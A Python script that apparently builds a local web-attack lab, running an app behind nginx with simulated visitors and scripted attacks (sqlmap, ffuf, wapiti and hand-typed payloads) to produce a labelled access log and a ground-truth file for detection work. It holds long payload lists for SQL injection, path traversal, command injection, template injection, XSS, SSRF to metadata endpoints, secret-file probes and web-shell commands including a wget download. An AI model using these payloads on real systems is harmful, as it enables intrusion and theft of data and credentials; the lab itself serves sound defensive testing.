"""The laboratory: app.py behind a real nginx, ordinary visitors, attacks by hand and by tools. Keeps what nginx logged and what really happened.

usage: lab.py OUT_FOLDER [SKIN] [TOOLS]   SKIN 1 or 2 (app.py); TOOLS: comma list of sqlmap,ffuf,wapiti, may be empty
OUT_FOLDER/access.log  nginx's combined format and, behind it, $request_time; without that last field it is plain combined
OUT_FOLDER/truth.tsv   line number (from 1), verdict, what: app.py's book (and for files that nginx itself serves: whether it should have)
Visitors and attackers are told apart by X-Forwarded-For, which nginx trusts here, so documentation addresses stand in the log.
"""
import http.client, os, random, shutil, socket, subprocess, sys, tempfile, threading, time
from urllib.parse import quote

OUT, SKIN = sys.argv[1], int(sys.argv[2]) if len(sys.argv) > 2 else 1
TOOLS = [tool for tool in (sys.argv[3] if len(sys.argv) > 3 else "sqlmap,ffuf,wapiti").split(",") if tool]
HERE = os.path.dirname(os.path.abspath(__file__))
FOLDER = tempfile.mkdtemp(prefix="outcome-lab-")
os.chmod(FOLDER, 0o755)
FIREFOX = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
rng = random.Random(SKIN)


def free_port():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


WEB, APP = free_port(), free_port()
SITE = f"http://127.0.0.1:{WEB}"


def put(name, text):
    path = os.path.join(FOLDER, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)


for n, name in enumerate(["about", "terms", "press", "jobs", "team", "history"]):
    put(f"pages/{name}.html", f"<h1>{name}</h1>" + "<p>Long ago and far away.</p>" * (12 + 23 * n * (1 if SKIN == 1 else 9)))
put("pages/notes/2024.html", "<h1>2024</h1>" + "<p>A good year.</p>" * 70)
for n, name in enumerate(["site.css", "app.js", "logo.svg"]):
    put(f"public/static/{name}", "/* */" * (400 + 900 * n))
put("public/robots.txt", "User-agent: *\nDisallow: /login\n")
put("public/.env", "APP_KEY=" + "k" * 40 + "\nDB_PASSWORD=" + "p" * 24 + "\n")
put("public/.git/HEAD", "ref: refs/heads/main\n")
put("public/.git/config", "[core]\n\trepositoryformatversion = 0\n" + "[remote]\n\turl = x\n" * 9)
put("public/backup.sql", "insert into users values (1);\n" * 900)
put("secret/settings.py", "SECRET_KEY = 'k'\n" * 30)
os.makedirs(os.path.join(FOLDER, "uploads"))
os.makedirs(os.path.join(FOLDER, "tmp"))
for name in "id cat uname whoami ls env echo sleep head hostname ps".split():
    found = shutil.which(name)
    if found:
        os.makedirs(os.path.join(FOLDER, "bin"), exist_ok=True)
        os.symlink(found, os.path.join(FOLDER, "bin", name))
put("nginx.conf", f"""pid {FOLDER}/nginx.pid; error_log {FOLDER}/error.log; worker_processes 1; daemon off;
{'user root;' if os.getuid() == 0 else ''}
events {{ worker_connections 512; }}
http {{
  {' '.join(f'{name}_temp_path {FOLDER}/tmp;' for name in ('client_body', 'proxy', 'fastcgi', 'uwsgi', 'scgi'))}
  types {{ text/html html; text/css css; text/javascript js; image/svg+xml svg; text/plain txt; }}
  log_format timed '$remote_addr - $remote_user [$time_local] "$request" $status $body_bytes_sent "$http_referer" "$http_user_agent" $request_time';
  log_format ids '$request_id $status $request_filename';
  access_log {FOLDER}/access.log timed; access_log {FOLDER}/ids.log ids;
  set_real_ip_from 127.0.0.1; real_ip_header X-Forwarded-For;
  server {{
    listen 127.0.0.1:{WEB}; root {FOLDER}/public;
    location /static {{ alias {FOLDER}/public/static/; }}
    location / {{ try_files $uri @app; }}
    location = / {{ try_files /none @app; }}
    location @app {{ proxy_pass http://127.0.0.1:{APP}; proxy_set_header X-Request-Id $request_id; }}
  }}
}}
""")
app = subprocess.Popen([sys.executable, os.path.join(HERE, "app.py"), str(APP), FOLDER, SITE, str(SKIN)])
nginx = subprocess.Popen(["nginx", "-c", os.path.join(FOLDER, "nginx.conf"), "-p", FOLDER, "-e", os.path.join(FOLDER, "error.log")])


def get(target, client, agent=FIREFOX, method="GET", body=None, headers=None, timeout=12):
    """One request with the target exactly as given."""
    connection = http.client.HTTPConnection("127.0.0.1", WEB, timeout=timeout)
    try:
        connection.putrequest(method, target, skip_accept_encoding=True)
        for name, value in {"X-Forwarded-For": client, "User-Agent": agent, **({"Content-Length": str(len(body))} if body else {}), **(headers or {})}.items():
            connection.putheader(name, value)
        connection.endheaders(body)
        reply = connection.getresponse()
        reply.read()
        return reply.status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


for _ in range(200):
    if get("/", "198.51.100.1") == 200:
        break
    time.sleep(0.05)

TERMS = ["tea", "green tea", "scarf", "union station", "O'Reilly", "lamp", "select blend", "fan", "desk", "wool & linen", "<3", "stone", "녹차", "1=1 explained", "nothing like it"]
FILES = ["about.html", "terms.html", "press.html", "jobs.html", "team.html", "history.html", "notes/2024.html"]
PLACES = [
    lambda r: f"/item?id={r.randint(1, 80)}", lambda r: f"/item?id={r.randint(1, 85)}", lambda r: f"/search?q={quote(r.choice(TERMS))}", lambda r: f"/search?q={quote(r.choice(TERMS))}",
    lambda r: f"/view?file={r.choice(FILES)}", lambda r: f"/docs?name={r.choice(['start', 'orders', 'returns', 'delivery', 'contact', 'terms', 'gift'])}",
    lambda r: f"/ping?host={r.choice(['mail.example', 'www.example', 'db.example', '192.0.2.7'])}", lambda r: f"/hello?name={r.choice(['you', 'Mina', 'Joon', 'Ada', '%EB%AF%BC%EC%A7%80'])}",
    lambda r: f"/reviews?item={r.randint(1, 80)}", lambda r: f"/guarded?q={quote(r.choice(['tea', 'lamp', 'wool scarf', 'fan', 'river stone']))}",
    lambda r: f"/api/price?id={r.randint(1, 80)}", lambda r: f"/fetch?url=https%3A%2F%2Fpreview.example%2F{'x' * r.randint(1, 60)}", lambda r: f"/guest?name={r.choice(['friend', 'Mina', 'Joon', 'Ada'])}",
    lambda r: f"/order?no={r.randint(1, 9999)}", lambda r: "/", lambda r: "/static/site.css", lambda r: "/static/app.js", lambda r: f"/app/{r.choice(['home', 'orders', 'profile'])}", lambda r: "/go?to=/item",
]
stop = threading.Event()


def visitor(number):
    own = random.Random(number)
    while not stop.is_set():
        get(own.choice(PLACES)(own), f"198.51.100.{number}")
        stop.wait(0.25)


own = random.Random(99)
for n in range(40 * len(PLACES)):
    get(PLACES[n % len(PLACES)](own), f"198.51.100.{own.randint(2, 60)}")
visitors = [threading.Thread(target=visitor, args=(n,), daemon=True) for n in range(61, 64)]
for each in visitors:
    each.start()

# Payloads as people type them.
E = lambda text: quote(text, safe="")
SQL = ["1 OR 1=1", "1 or 1=1-- -", "1 OR 'a'='a'", "-1 UNION SELECT 1,2,3,4", "-1 UNION SELECT id,login,password,role FROM users-- -", "-1 union all select id,name,email,phone from customers",
       "-1 UNION SELECT 1,group_concat(login||':'||password),3,4 FROM users", "-1 UNION SELECT 1,sql,3,4 FROM sqlite_master", "1' OR '1'='1", "1' OR 1=1-- -", "1'", "1\"", "1 AND 1=1", "1 AND 1=2", "1 ORDER BY 10",
       "1; DROP TABLE items", "-1' UNION SELECT login,password FROM users-- -", "0' UNION SELECT id,name FROM customers-- -", "1' AND '1'='2", "1/**/OR/**/1=1", "1 oR 2>1", "-1 UNION SELECT NULL,NULL,NULL,NULL,NULL", "999 OR id<50"]
SLEEPS = ["1 AND sleep(2)", "1 OR sleep(0)", "1' AND sleep(2)-- -", "1 AND 1=(select sleep(3))"]
FILES_AWAY = ["../../../../../../etc/passwd", "....//....//etc/passwd", "../../../../../../etc/hosts", "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "/etc/passwd", "../../secret/settings.py", "../secret/settings.py", "../../../../../../proc/self/environ",
              "../../../../../../etc/shadow.bak", "..\\..\\..\\windows\\win.ini", "../../../../../../etc/os-release", "php://filter/convert.base64-encode/resource=index.php", "../public/.env", "../../../../../../etc/group", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"]
COMMANDS = [";id", "|id", "&& id", "$(id)", "`id`", "; cat /etc/passwd", "|cat /etc/passwd", ";uname -a", ";env", "; ls -la /etc", "||whoami", "; cat /etc/hosts", "%0aid", "|ping -c 3 127.0.0.1", "& dir c:", ";cat /etc/os-release", "$(cat /etc/passwd)", "; sleep 2"]
TEMPLATES = ["{{7*7}}", "{{config}}", "${7*7}", "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{config['users']}}", "{{self.__class__}}", "#{7*7}", "{{config.__class__.__init__.__globals__}}"]
SCRIPTS = ["<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>", "<svg/onload=alert(document.cookie)>", "'-alert(1)-'", "<iframe src=javascript:alert(1)>", "javascript:alert(1)", "<body onload=alert(1)>"]
FETCHES = ["http://127.0.0.1/internal/config", "http://localhost:8080/internal/config", "http://169.254.169.254/latest/meta-data/", "file:///etc/passwd", "http://[::1]/internal/config", "gopher://127.0.0.1:6379/_INFO", "http://2130706433/internal/config", "http://10.0.0.1/admin", "http://192.168.0.1/", "http://metadata.google.internal/computeMetadata/v1/", "http://127.0.0.1:22/", "http://127.0.0.1:6379/", "dict://127.0.0.1:11211/stats", "http://localhost:3306/"]
SECRET_PATHS = ["/.env", "/.git/config", "/.git/HEAD", "/.env.bak", "/backup.sql", "/backup.zip", "/config.php.bak", "/.aws/credentials", "/.svn/entries", "/wp-config.php.bak", "/database.sql", "/.htpasswd", "/id_rsa", "/.ssh/id_rsa", "/app/.env", "/app/.git/config", "/app/backup.sql", "/app/.aws/credentials",
                "/static../secret/settings.py", "/static../../secret/settings.py", "/static../.env", "/static/../../../../etc/passwd", "/static/..%2f..%2fsecret/settings.py", "/static../backup.sql"]
ALL = SQL + FILES_AWAY + COMMANDS + TEMPLATES + SCRIPTS
def tool(*command, seconds):
    subprocess.run(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=seconds + 60,
                   env={**os.environ, "HOME": FOLDER})


# Who attacks looks around first.
if "ffuf" in TOOLS:
    mixed = lambda words: "\n".join(random.Random(SKIN + 7).sample(words, len(words)))
    put("words", mixed([p.lstrip("/") for p in SECRET_PATHS[:14]] + "admin backup config db login old test tmp upload wp-admin static robots.txt .DS_Store dump.sql site.tar.gz .npmrc".split()))
    put("traversals", mixed(["../" * n + name for name in ("etc/passwd", "etc/hosts", "windows/win.ini", "secret/settings.py", "boot.ini", "etc/apache2/apache2.conf") for n in range(1, 8)]))
    put("sqls", "\n".join(E(p) for p in SQL))
    put("addresses", mixed([E(f) for f in FETCHES] + [E(f"http://{host}:{port}/") for host in ("127.0.0.1", "10.0.0.5") for port in (21, 22, 3306, 5432, 6379, 9200)]))
    for words, target, client in [("words", "/FUZZ", 41), ("words", "/app/FUZZ", 41), ("traversals", "/view?file=FUZZ", 42), ("traversals", "/docs?name=FUZZ", 42), ("sqls", "/search?q=FUZZ", 43), ("addresses", "/fetch?url=FUZZ", 44)]:
        tool("ffuf", "-s", "-w", os.path.join(FOLDER, words), "-t", "2", "-u", SITE + target, "-H", f"X-Forwarded-For: 203.0.113.{client}", seconds=60)
if "wapiti" in TOOLS:
    tool("wapiti", "-u", SITE + "/", "-m", "sql,exec,file,xss,redirect", "-S", "normal", "--flush-session", "--max-scan-time", "40", "--max-attack-time", "20", "--max-links-per-page", "30", "-d", "2", "-v", "0",
         "-H", "X-Forwarded-For: 203.0.113.60", "-f", "txt", "-o", os.path.join(FOLDER, "wapiti.txt"), seconds=120)

BY_HAND = ([f"/item?id={E(p)}" for p in SQL + SLEEPS] + [f"/api/price?id={E(p)}" for p in SQL] + [f"/view?file={p if '%' in p else E(p)}" for p in FILES_AWAY] + [f"/ping?host=mail.example{E(p) if p[0] != '%' else p}" for p in COMMANDS]
           + [f"/hello?name={E(p)}" for p in TEMPLATES + SCRIPTS] + [f"/fetch?url={E(p)}" for p in FETCHES] + SECRET_PATHS + [f"/guest?name={E(p)}" for p in SCRIPTS] + [f"/go?to={E(p)}" for p in ["https://evil.example/", "//evil.example", "/item", "/\\evil.example"]]
           + [f"/{place}{E(p)}" for place in ("search?q=", "reviews?item=", "docs?name=", "guarded?q=", "order?no=") for p in ALL])

# By hand, at places with and without a hole, in shuffled order.
random.Random(SKIN).shuffle(BY_HAND)
for n, target in enumerate(BY_HAND):
    get(target, f"203.0.113.{10 + n % 7}", agent=FIREFOX if n % 3 else "curl/7.88.1")

# A web shell: looked for, uploaded, used. Others look for one that is not there, also where everything is answered 200.
for path in ["/uploads/shell.php?cmd=id", "/shell.php?cmd=id", "/uploads/c99.php?cmd=whoami", "/app/shell.php?cmd=id", "/app/shell.php?cmd=whoami", "/app/cmd.php?cmd=uname%20-a", "/app/wso.php?c=ls"]:
    get(path, "203.0.113.30")
mark = b"--x\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n\r\n<?php shell ?>\r\n--x--\r\n"
get("/upload", "203.0.113.30", method="POST", body=mark, headers={"Content-Type": "multipart/form-data; boundary=x"})
for command in ["id", "whoami", "uname -a", "cat /etc/passwd", "ls -la", "wget http://203.0.113.30/x.sh", "env", "cat /etc/hosts"]:
    get(f"/uploads/shell.php?cmd={E(command)}", "203.0.113.30")


if "sqlmap" in TOOLS:
    for number, (target, more) in enumerate([
            ("/search?q=tea", ["--technique", "BEU", "--level", "1"]), ("/reviews?item=7", ["--technique", "BEU", "--level", "1"]), ("/docs?name=start", ["--technique", "BU", "--level", "1"]),
            ("/guarded?q=lamp", ["--technique", "BU", "--level", "1"]),
            ("/item?id=7", ["--technique", "U", "--dump", "-T", "users"]), ("/api/price?id=7", ["--technique", "BU", "--tables"])]):
        tool("sqlmap", "-u", SITE + target, "--batch", "--flush-session", "--disable-coloring", "--headers", f"X-Forwarded-For: 203.0.113.{50 + number}", *more, seconds=120)
stop.set()
for each in visitors:
    each.join()
time.sleep(0.3)
nginx.terminate()
app.terminate()
nginx.wait()
app.wait()

effects = {}
for line in open(os.path.join(FOLDER, "effects.tsv"), encoding="utf-8", errors="replace"):
    number, verdict, what = line.rstrip("\n").split("\t", 2)
    effects[number] = (verdict, what)
os.makedirs(OUT, exist_ok=True)
shutil.copyfile(os.path.join(FOLDER, "access.log"), os.path.join(OUT, "access.log"))
with open(os.path.join(OUT, "truth.tsv"), "w", encoding="utf-8") as truth:
    for number, line in enumerate(open(os.path.join(FOLDER, "ids.log"), errors="replace"), 1):
        request, status, file = line.rstrip("\n").split(" ", 2)
        verdict = effects.get(request)
        if status == "200" and any(secret in os.path.normpath(file) for secret in (FOLDER + "/public/.", FOLDER + "/public/backup", FOLDER + "/secret/")):
            verdict = ("yes", "file served")
        if verdict:
            truth.write(f"{number}\t{verdict[0]}\t{verdict[1].replace(FOLDER, '')[:80]}\n")
shutil.rmtree(FOLDER, ignore_errors=True)
